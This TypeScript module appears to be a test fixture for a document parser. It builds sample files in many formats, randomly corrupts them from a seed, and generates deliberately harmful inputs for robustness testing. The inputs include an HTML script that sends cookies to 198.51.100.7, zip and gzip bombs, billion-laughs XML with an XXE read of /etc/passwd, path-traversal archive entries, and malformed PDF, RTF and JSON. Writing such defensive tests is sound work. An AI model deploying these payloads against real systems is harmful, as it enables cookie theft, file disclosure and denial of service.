// Files that no program in use writes: each format's good file, broken by a chance that a seed decides, and files that
// were made to do harm. In: a seed. Out: names and bytes. Must not know how they are read.
import { gzipSync } from 'node:zlib'
import { strToU8, zipSync } from 'fflate'
import { random } from '../random.js'
import { doc, docx, eml, odt, pdf, tar, warc, xlsx, zip } from './files.js'

export interface Broken {
  name: string
  bytes: Uint8Array
}

const WORDS = ['远山煤矿发生透水事故，三人被困。', '省长程书衡主持召开会议，听取抢险救援情况汇报。']
const TABLE = [
  ['组别', '组长', '地区'],
  ['第一组', '白景山', '湖北省'],
]
const PAGE = `<!doctype html><title>通报</title><script>fetch('http://198.51.100.7/?'+document.cookie)</script>
<article><h1>关于远山煤矿事故的通报</h1><p>${WORDS.join('</p><p>')}</p></article><img src=http://198.51.100.7/x.png>`
const LINES = WORDS.map((text, n) => JSON.stringify({ id: `r${n}`, title: '通报', text })).join('\n')

/** A good file of every format that is read, by its ending. */
export async function goodFiles(): Promise<Readonly<Record<string, Uint8Array>>> {
  const text = Buffer.from(WORDS.join('\n'))
  const inner = { 'a.txt': WORDS[0] ?? '', 'b/c.html': PAGE }
  return {
    txt: text,
    md: Buffer.from(`# 通报\n\n${WORDS.join('\n\n')}`),
    html: Buffer.from(PAGE),
    pdf: pdf([WORDS.map((words, n) => [60, 700 - n * 30, words] as const)]),
    docx: docx(WORDS, TABLE),
    doc: doc(WORDS),
    odt: odt(WORDS, TABLE),
    rtf: Buffer.from(
      `{\\rtf1\\ansi\\ansicpg936 ${[...(WORDS[0] ?? '')].map((c) => `\\u${c.charCodeAt(0)}?`).join('')}\\par}`,
    ),
    eml: eml('通报', WORDS.join('\n'), { name: 'a.docx', content: docx(WORDS) }),
    xlsx: xlsx(TABLE),
    csv: Buffer.from(`id,title,text\n1,通报,"${WORDS.join('')}"\n2,通报,${WORDS[0]}\n`),
    jsonl: Buffer.from(`${LINES}\n`),
    zip: zip(inner),
    tar: await tar(inner),
    'tar.gz': gzipSync(await tar(inner)),
    'txt.gz': gzipSync(text),
    warc: warc({ 'http://example.org/a': { type: 'text/html', body: PAGE } }),
  }
}

type Chance = (below: number) => number
type Mutation = (bytes: Uint8Array, chance: Chance, other: Uint8Array) => Uint8Array

const flip = (bytes: Uint8Array, at: number, bit: number) => {
  bytes[at] = (bytes[at] ?? 0) ^ (1 << bit)
}

const MUTATIONS: readonly Mutation[] = [
  // Cut off.
  (bytes, chance) => bytes.slice(0, chance(bytes.length)),
  // Single bits turned round.
  (bytes, chance) => {
    const broken = bytes.slice()
    for (let n = 1 + chance(12); n > 0; n--) flip(broken, chance(broken.length), chance(8))
    return broken
  },
  // A part overwritten by noise, by zeros or by 0xFF.
  (bytes, chance) => {
    const broken = bytes.slice()
    const [start, kind] = [chance(broken.length), chance(3)]
    for (let at = start; at < Math.min(broken.length, start + 1 + chance(64)); at++)
      broken[at] = kind === 0 ? chance(256) : kind === 1 ? 0 : 255
    return broken
  },
  // A part left out, or put in again many times.
  (bytes, chance) => {
    const [start, length] = [chance(bytes.length), chance(200)]
    const middle = Buffer.alloc(length * chance(40), bytes.slice(start, start + length))
    return Buffer.concat([bytes.slice(0, start), middle, bytes.slice(start + length)])
  },
  // One long line in the middle.
  (bytes, chance) => {
    const at = chance(bytes.length)
    const line = Buffer.from(['组', '（', '<b>', '{"a":', '"', '&amp;', '\\u'][chance(7)] ?? '')
    return Buffer.concat([bytes.slice(0, at), Buffer.alloc(20_000, line), bytes.slice(at)])
  },
  // The beginning of one format and the end of another.
  (bytes, chance, other) => Buffer.concat([bytes.slice(0, chance(bytes.length)), other.slice(chance(other.length))]),
]

/** `count` broken files over all formats; one in twenty bears the ending of another format. */
export async function* brokenFiles(seed: number, count: number): AsyncGenerator<Broken> {
  const next = random(seed)
  const chance: Chance = (below) => Math.floor(next() * Math.max(1, below))
  // Plain arrays: a slice of a Buffer is the same bytes, and one mutation would ruin all that follow.
  const good = Object.entries(await goodFiles()).map(([ending, bytes]) => [ending, Uint8Array.from(bytes)] as const)
  for (let n = 0; n < count; n++) {
    const [ending, bytes] = good[n % good.length] as (typeof good)[number]
    const [otherEnding, other] = good[chance(good.length)] as (typeof good)[number]
    const mutation = MUTATIONS[chance(MUTATIONS.length)] as Mutation
    yield { name: `f${n}.${chance(20) === 0 ? otherEnding : ending}`, bytes: mutation(bytes, chance, other) }
  }
}

const entities = (depth: number) =>
  Array.from({ length: depth }, (_, n) => `<!ENTITY e${n + 1} "${`&e${n};`.repeat(10)}">`).join('')
const bombedXml = `<?xml version="1.0"?><!DOCTYPE d [<!ENTITY e0 "laughs"><!ENTITY file SYSTEM "file:///etc/passwd">${entities(9)}]><d>&e9;&file;</d>`

/** Files that were made to do harm, one of each kind known. */
export async function harmfulFiles(): Promise<Broken[]> {
  let nested = zip({ 'deep.txt': WORDS[0] ?? '' })
  for (let depth = 0; depth < 12; depth++) nested = zip({ 'deeper.zip': nested })
  const parts = ['word/document.xml', 'content.xml', 'xl/workbook.xml', '[Content_Types].xml', '_rels/.rels']
  const xml = zipSync(Object.fromEntries(parts.map((part) => [part, strToU8(bombedXml)])))
  const loop = pdf([[[60, 700, '循环']]])
    .toString('latin1')
    .replace(/\/Kids ?\[[^\]]*\]/, '/Kids [2 0 R 2 0 R]')
    .replace(/startxref\s+\d+/, 'startxref\n9')
  return [
    { name: 'zeros.zip', bytes: zipSync({ 'zeros.txt': new Uint8Array(80_000_000) }) },
    { name: 'zeros.txt.gz', bytes: gzipSync(Buffer.alloc(80_000_000)) },
    { name: 'zeros.docx', bytes: zipSync({ 'word/document.xml': new Uint8Array(80_000_000) }) },
    { name: 'zeros-in.xlsx', bytes: zipSync({ 'xl/workbook.xml': new Uint8Array(80_000_000) }) },
    { name: 'nested.zip', bytes: nested },
    { name: 'leaves.zip', bytes: zip({ '../../outside.txt': WORDS[0] ?? '', '/etc/outside.txt': WORDS[0] ?? '' }) },
    { name: 'leaves.tar', bytes: await tar({ '../outside.txt': WORDS[0] ?? '' }) },
    { name: 'entities-docx.docx', bytes: xml },
    { name: 'entities-odt.odt', bytes: xml },
    { name: 'entities-xlsx.xlsx', bytes: xml },
    { name: 'deep.html', bytes: Buffer.from(`${'<div>'.repeat(60_000)}${WORDS[0]}`) },
    { name: 'scripts.html', bytes: Buffer.from(PAGE.repeat(50)) },
    { name: 'frames.eml', bytes: eml('x', `<iframe src="http://198.51.100.7/"></iframe>${WORDS[0]}`) },
    { name: 'loop.pdf', bytes: Buffer.from(loop, 'latin1') },
    { name: 'groups.rtf', bytes: Buffer.from(`{\\rtf1 ${'{'.repeat(100_000)}`) },
    { name: 'line.txt', bytes: Buffer.from('组'.repeat(350_000)) },
    { name: 'brackets.jsonl', bytes: Buffer.from(`{"id":"1","text":${'['.repeat(200_000)}\n${LINES}\n`) },
    { name: 'quotes.csv', bytes: Buffer.from(`id,text\n1,"${'a,'.repeat(100_000)}\n`) },
    { name: 'new\nline\u202e.txt', bytes: Buffer.from(WORDS.join('\n')) },
    { name: 'nothing.pdf', bytes: new Uint8Array() },
  ]
}
